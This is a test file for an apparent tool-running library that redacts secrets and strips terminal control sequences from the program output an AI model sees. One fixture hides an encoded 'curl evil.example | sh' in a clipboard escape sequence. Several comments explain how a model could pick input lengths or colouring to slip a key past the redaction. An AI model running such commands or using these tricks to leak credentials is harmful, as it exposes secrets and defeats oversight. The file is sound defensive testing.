import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { expectFailure, parseResultText, recordingLogger, type TestClient } from '@toolgate/core/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { execTool, value } from '../src/index.js';
import { ECHO, NODE, scratchDir, serve } from './harness.js';

const LEAK = path.join(path.dirname(ECHO), 'leak.mjs');
const SECRETS = ['hunter2', 'abc.def.ghi', 'AKIAIOSFODNN7EXAMPLE'];
const SCRUBBED = 'password=[REDACTED]\nAuthorization: Bearer [REDACTED]\naws [REDACTED]\n';

const leak = execTool({
  name: 'leak',
  description: 'Prints secrets on both streams and exits with the given code (test).',
  input: { code: z.enum(['0', '1']) },
  command: NODE,
  cwd: scratchDir(),
  args: (input) => [LEAK, value(input.code)],
});

let client: TestClient;
beforeAll(async () => {
  client = await serve([leak], recordingLogger([]));
});
afterAll(async () => client.close());

function expectNoSecret(text: string): void {
  for (const secret of SECRETS) expect(text).not.toContain(secret);
}

describe('program output the model sees', () => {
  it('is scrubbed of secrets on stdout and stderr when the program succeeds', async () => {
    const result = await client.callTool('leak', { code: '0' });
    expect(result.isError).toBeUndefined();
    expect(parseResultText(result)).toEqual({
      ok: true,
      exitCode: 0,
      stdout: `out: ${SCRUBBED}`,
      stderr: `err: ${SCRUBBED}`,
      truncated: false,
    });
    expect(result.structuredContent).toEqual(parseResultText(result));
    expectNoSecret(JSON.stringify(result));
  });

  it('is scrubbed of secrets in the failure message when the program exits 1', async () => {
    const result = await client.callTool('leak', { code: '1' });
    const envelope = expectFailure(result);
    expect(envelope.error).toBe('unavailable');
    expect(envelope.message).toBe(
      `The program exited with code 1. stderr (last 2048 bytes): err: ${SCRUBBED.trim()}`,
    );
    expectNoSecret(JSON.stringify(result));
  });
});

describe('values of the environment named like credentials', () => {
  const CARRIER_KEY = 'opaque-9f2c41d7e8';
  const printsItsKey = execTool({
    name: 'prints_its_key',
    description: 'Echoes its own credentials the way a failing CLI does (test).',
    input: { code: z.enum(['0', '1']) },
    command: NODE,
    cwd: scratchDir(),
    env: { PATH: '/usr/bin:/bin', CARRIER_KEY, DB_PASS: 'pw', CARRIER_REGION: 'eu-west-42' },
    args: (input) => [
      '-e',
      [
        'const e = process.env;',
        'process.stdout.write("key " + e.CARRIER_KEY + " pass " + e.DB_PASS + " region " + e.CARRIER_REGION);',
        'process.stderr.write("auth failed for " + e.CARRIER_KEY);',
        'process.exit(Number(process.argv[1]));',
      ].join(' '),
      value(input.code),
    ],
  });
  let keyClient: TestClient;
  beforeAll(async () => {
    keyClient = await serve([printsItsKey], recordingLogger([]));
  });
  afterAll(async () => keyClient.close());

  it('are scrubbed from output even when no secret pattern knows them; short values and other names stay', async () => {
    const result = await keyClient.callTool('prints_its_key', { code: '0' });
    expect(result.isError).toBeUndefined();
    expect(parseResultText(result)).toMatchObject({
      stdout: 'key [REDACTED] pass pw region eu-west-42',
      stderr: 'auth failed for [REDACTED]',
    });
    expect(JSON.stringify(result)).not.toContain(CARRIER_KEY);
  });

  it('are scrubbed from the stderr tail of a failure', async () => {
    const result = await keyClient.callTool('prints_its_key', { code: '1' });
    const envelope = expectFailure(result);
    expect(envelope.message).toBe(
      'The program exited with code 1. stderr (last 2048 bytes): auth failed for [REDACTED]',
    );
    expect(JSON.stringify(result)).not.toContain(CARRIER_KEY);
  });
});

describe('a credential value a secret pattern only partly covers', () => {
  // A generated password with the characters core's `key=value` pattern stops at (`;`, `&`, space).
  const PGPASSWORD = 's3cr3t;Pa55&w0rd and more';
  const printsConfig = execTool({
    name: 'prints_config',
    description: 'Echoes its connection settings the way a failing database CLI does (test).',
    input: { code: z.enum(['0', '1']) },
    command: NODE,
    cwd: scratchDir(),
    env: { PATH: '/usr/bin:/bin', PGPASSWORD },
    args: (input) => [
      '-e',
      [
        'const line = "connecting with PGPASSWORD=" + process.env.PGPASSWORD + " failed";',
        'process.stdout.write(line);',
        'process.stderr.write(line);',
        'process.exit(Number(process.argv[1]));',
      ].join(' '),
      value(input.code),
    ],
  });
  let configClient: TestClient;
  beforeAll(async () => {
    configClient = await serve([printsConfig], recordingLogger([]));
  });
  afterAll(async () => configClient.close());

  it('is scrubbed whole: the pattern does not cut it short and leave its tail for the exact match to miss', async () => {
    const result = await configClient.callTool('prints_config', { code: '0' });
    expect(result.isError).toBeUndefined();
    expect(parseResultText(result)).toMatchObject({
      stdout: 'connecting with PGPASSWORD=[REDACTED] failed',
      stderr: 'connecting with PGPASSWORD=[REDACTED] failed',
    });
    const failure = expectFailure(await configClient.callTool('prints_config', { code: '1' }));
    expect(failure.message).toBe(
      'The program exited with code 1. stderr (last 2048 bytes): connecting with PGPASSWORD=[REDACTED] failed',
    );
    expect(JSON.stringify(failure)).not.toContain('Pa55');
  });
});

describe('a credential value the output cap or the stderr tail would cut in two', () => {
  // The model picks the length of a value the program echoes next to its key, so that the cut falls
  // inside the key: all of it but one character would be kept, and no exact match would see it.
  const CARRIER_KEY = 'opaque-9f2c41d7e8';
  const echoesKey = execTool({
    name: 'echoes_key',
    description: 'Reports a rejected key next to the file it was used for, as a chatty CLI does (test).',
    input: { file: z.string(), code: z.enum(['0', '1']) },
    command: NODE,
    cwd: scratchDir(),
    env: { PATH: '/usr/bin:/bin', CARRIER_KEY },
    maxOutputBytes: 100,
    stderrTailBytes: 64,
    args: (input) => [
      '-e',
      [
        'const [file, code] = process.argv.slice(1), key = process.env.CARRIER_KEY;',
        'process.stdout.write("file " + file + " rejected key " + key + "\\n");',
        'process.stderr.write("key " + key + " rejected for " + file);',
        'process.exitCode = Number(code);',
      ].join(' '),
      value(input.file),
      value(input.code),
    ],
  });
  let keyClient: TestClient;
  beforeAll(async () => {
    keyClient = await serve([echoesKey], recordingLogger([]));
  });
  afterAll(async () => keyClient.close());

  it('is dropped whole at the end of the kept output, not kept but for its last character', async () => {
    // "file " + 65 characters + " rejected key " puts the key at byte 84: the 100-byte cut falls
    // before its last character.
    const file = 'a'.repeat(65);
    const result = await keyClient.callTool('echoes_key', { file, code: '0' });
    expect(result.isError).toBeUndefined();
    expect(parseResultText(result)).toMatchObject({
      stdout: `file ${file} rejected key `,
      truncated: true,
    });
    expect(JSON.stringify(result)).not.toContain(CARRIER_KEY.slice(0, 8));
  });

  it('is dropped whole at the start of the stderr tail of a failure, not kept but for its first character', async () => {
    // "key " + key + " rejected for " + 34 characters is 69 bytes: the 64-byte tail starts one byte
    // into the key.
    const file = 'b'.repeat(34);
    const envelope = expectFailure(await keyClient.callTool('echoes_key', { file, code: '1' }));
    expect(envelope.message).toBe(
      `The program exited with code 1. stderr (last 64 bytes): rejected for ${file}`,
    );
    expect(JSON.stringify(envelope)).not.toContain(CARRIER_KEY.slice(-8));
  });
});

describe('a credential value the program prints JSON-escaped', () => {
  // A key holding a backslash and a quote: JSON output (`--json`, an env dump) escapes both.
  const CARRIER_KEY = 'k3y\\w1th"quote';
  const dumpsEnv = execTool({
    name: 'dumps_env',
    description: 'Prints its environment as JSON, as a diagnostics command does (test).',
    input: {},
    command: NODE,
    cwd: scratchDir(),
    env: { PATH: '/usr/bin:/bin', CARRIER_KEY },
    args: () => ['-e', 'process.stdout.write(JSON.stringify({ key: process.env.CARRIER_KEY }))'],
  });
  let dumpClient: TestClient;
  beforeAll(async () => {
    dumpClient = await serve([dumpsEnv], recordingLogger([]));
  });
  afterAll(async () => dumpClient.close());

  it('is scrubbed in its escaped form too', async () => {
    const result = await dumpClient.callTool('dumps_env', {});
    expect(parseResultText(result)).toMatchObject({ stdout: '{"key":"[REDACTED]"}' });
    expect(JSON.stringify(result)).not.toContain('w1th');
  });
});

describe('terminal control sequences in what a program prints', () => {
  // A config folder the model may search, and a document it may read: both hold what a hostile
  // author or a careless one put there.
  const docs = scratchDir();
  writeFileSync(path.join(docs, 'app.yml'), 'name: orders\npassword: hunter2-in-the-config\n');
  writeFileSync(
    path.join(docs, 'notes.txt'),
    // A clipboard write (OSC 52), a title change, a line erased and overwritten, a bell, a backspace,
    // a line a carriage return writes over.
    'Shipping notes\n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;title\x1b\\visible\x1b[2K\x1b[1Ahidden\x07\b!\nsafe\rOVERWRITTEN\r\n',
  );
  // A search that colours its matches, as `--color=always` (or FORCE_COLOR / CLICOLOR_FORCE in the
  // environment) makes grep, jq -C, git and many CLIs do.
  const searchConfig = execTool({
    name: 'search_config',
    description: 'Finds lines of the config folder (test).',
    input: { pattern: z.string() },
    command: '/usr/bin/grep',
    cwd: docs,
    args: (input) => ['--color=always', '-r', '-e', value(input.pattern), '--', '.'],
  });
  // A right-to-left override shows what follows backwards (`0001` reads `1000`) and an isolate hides a
  // part in a line; in a terminal with bidi support or a client that renders rich text.
  writeFileSync(
    path.join(docs, 'refund.txt'),
    'refund approved: \u202e0001\u202c EUR\nnote: \u2067hidden\u2069 \u202aembedded\u202c \u202bR\u202c \u202dL\u202c \u2066i\u2069 \u2068f\u2069\n',
  );
  // NUL-separated, as /proc/<pid>/environ is.
  writeFileSync(path.join(docs, 'environ'), 'HOME=/home/app\0pwd=s3cret-after-a-nul\0LANG=C\0');
  // Overstrike, as man and less print bold and underlined text: a credential written so.
  const bold = (text: string): string => [...text].map((char) => `${char}\b${char}`).join('');
  const underlined = (text: string): string => [...text].map((char) => `_\b${char}`).join('');
  writeFileSync(
    path.join(docs, 'manpage.txt'),
    `${bold('NAME')}\n  ${bold('password')}=${bold('hunter2-overstruck')}\n  api_key: ${underlined('sk-live-overstruck-0123456789')}\n\b\bend\n`,
  );
  const readNotes = execTool({
    name: 'read_notes',
    description: 'Prints one document (test).',
    input: { file: z.enum(['notes.txt', 'environ', 'refund.txt', 'manpage.txt']) },
    command: '/usr/bin/cat',
    cwd: docs,
    args: (input) => ['--', value(input.file)],
  });
  const failsWith = execTool({
    name: 'fails_with',
    description: 'Writes its argument to stderr and exits 1 (test).',
    input: { text: z.string() },
    command: NODE,
    cwd: docs,
    args: (input) => ['-e', 'process.stderr.write(process.argv[1]); process.exitCode = 1', value(input.text)],
  });
  let controlClient: TestClient;
  beforeAll(async () => {
    controlClient = await serve([searchConfig, readNotes, failsWith], recordingLogger([]));
  });
  afterAll(async () => controlClient.close());

  it('do not hide a secret from the scrubber: a coloured match is scrubbed like a plain one', async () => {
    const result = await controlClient.callTool('search_config', { pattern: 'password' });
    expect(result.isError).toBeUndefined();
    expect(parseResultText(result)).toMatchObject({ stdout: './app.yml:password: [REDACTED]\n' });
    expect(JSON.stringify(result)).not.toContain('hunter2');
  });

  it('never reach the client (clipboard, title, cursor, erase, overwrite, bell); the text stays', async () => {
    const result = await controlClient.callTool('read_notes', { file: 'notes.txt' });
    expect(result.isError).toBeUndefined();
    const { stdout } = parseResultText(result) as { stdout: string };
    // The backspace takes the bell before it with it.
    expect(stdout).toBe('Shipping notes\nvisiblehidden!\nsafe\nOVERWRITTEN\r\n');
    expect(JSON.stringify(result)).not.toMatch(/\\u00(?:1b|07|08)/);
  });

  it('lose their bidirectional overrides, embeddings and isolates, which reorder or hide text on screen', async () => {
    const result = await controlClient.callTool('read_notes', { file: 'refund.txt' });
    expect(result.isError).toBeUndefined();
    expect(parseResultText(result)).toMatchObject({
      stdout: 'refund approved: 0001 EUR\nnote: hidden embedded R L i f\n',
    });
    expect(JSON.stringify(result)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|\\u20(?:2[a-e]|6[6-9])/i);
  });

  it('read overstruck text as it shows (bold, underline): a secret written so is found', async () => {
    const result = await controlClient.callTool('read_notes', { file: 'manpage.txt' });
    expect(result.isError).toBeUndefined();
    // A backspace at a line's start takes nothing before the line break.
    expect(parseResultText(result)).toMatchObject({
      stdout: 'NAME\n  password=[REDACTED]\n  api_key: [REDACTED]\nend\n',
    });
    expect(JSON.stringify(result)).not.toMatch(/hunter2|overstruck|\\u0008/);
  });

  it('leave NUL-separated data as it was: a secret after a NUL is still found', async () => {
    const result = await controlClient.callTool('read_notes', { file: 'environ' });
    // Core's key=value pattern reads a value up to whitespace, so it takes the NULs and what follows.
    expect(parseResultText(result)).toMatchObject({ stdout: 'HOME=/home/app\0pwd=[REDACTED]' });
    expect(JSON.stringify(result)).not.toContain('s3cret');
  });

  it('are dropped from the stderr tail of a failure, 7-bit and 8-bit forms alike', async () => {
    const text = 'bad \x1b[31mpassword\x1b[0m=hunter2-tail \u009b2J\u009d0;x\u009cdone';
    const envelope = expectFailure(await controlClient.callTool('fails_with', { text }));
    expect(envelope.message).toBe(
      'The program exited with code 1. stderr (last 2048 bytes): bad password=[REDACTED]  2J 0;x done',
    );
  });
});

describe('a credential value coloured character by character, cut by the output cap or the stderr tail', () => {
  // A search that colours its matches (`--color=always`, FORCE_COLOR) with a pattern the model picks:
  // `.` wraps every character of a line in its own escape sequence, so the program's bytes never hold
  // the key as written, and a cut placed inside it (the model picks how much comes before) used to
  // leave all of it but one character once the escapes were removed.
  const CARRIER_KEY = 'opaque-9f2c41d7e8';
  const env = { PATH: '/usr/bin:/bin', LANG: 'C.UTF-8', CARRIER_KEY };
  const keys = scratchDir();
  writeFileSync(path.join(keys, 'carrier.env'), `CARRIER_KEY=${CARRIER_KEY}\n`);
  const grepArgs = (pattern: string): string[] => ['--color=always', '-e', pattern, '--', 'carrier.env'];
  // The byte before which the key's last character is written, in what this grep prints for `.`.
  const raw = execFileSync('/usr/bin/grep', grepArgs('.'), { cwd: keys, env });
  const beforeLast = raw.lastIndexOf(CARRIER_KEY.at(-1)!);
  const searchKeys = execTool({
    name: 'search_keys',
    description: 'Finds lines of the carrier config (test).',
    input: { pattern: z.string() },
    command: '/usr/bin/grep',
    cwd: keys,
    env,
    maxOutputBytes: beforeLast,
    args: (input) => ['--color=always', '-e', value(input.pattern), '--', 'carrier.env'],
  });
  // A CLI that colours each character of the key it rejects on stderr, then a value the model picks.
  const rejectsKey = execTool({
    name: 'rejects_key',
    description: 'Reports a rejected key, coloured, then the file it was used for, and fails (test).',
    input: { file: z.string() },
    command: NODE,
    cwd: keys,
    env,
    stderrTailBytes: 64,
    args: (input) => [
      '-e',
      [
        'const colour = (text) => [...text].map((c) => "\\x1b[31m" + c + "\\x1b[0m").join("");',
        'process.stderr.write("key " + colour(process.env.CARRIER_KEY) + " rejected for " + process.argv[1]);',
        'process.exitCode = 1;',
      ].join(' '),
      value(input.file),
    ],
  });
  let colourClient: TestClient;
  beforeAll(async () => {
    colourClient = await serve([searchKeys, rejectsKey], recordingLogger([]));
  });
  afterAll(async () => colourClient.close());

  it('is dropped at the end of the kept output, not kept but for its last character', async () => {
    expect(raw.includes(CARRIER_KEY)).toBe(false);
    const result = await colourClient.callTool('search_keys', { pattern: '.' });
    expect(result.isError).toBeUndefined();
    const { stdout, truncated } = parseResultText(result) as { stdout: string; truncated: boolean };
    expect(truncated).toBe(true);
    expect(stdout).toBe('CARRIER_KEY=');
    expect(JSON.stringify(result)).not.toContain(CARRIER_KEY.slice(0, 4));
  });

  it('is dropped at the start of the stderr tail of a failure, not kept but for its first character', async () => {
    // " rejected for " + 30 characters is 44 bytes: the 64-byte tail starts 20 bytes back, inside
    // the escapes of the key's last characters.
    const file = 'c'.repeat(30);
    const envelope = expectFailure(await colourClient.callTool('rejects_key', { file }));
    expect(envelope.message).toBe(
      `The program exited with code 1. stderr (last 64 bytes): rejected for ${file}`,
    );
    expect(JSON.stringify(envelope)).not.toContain(CARRIER_KEY.slice(-2));
  });
});
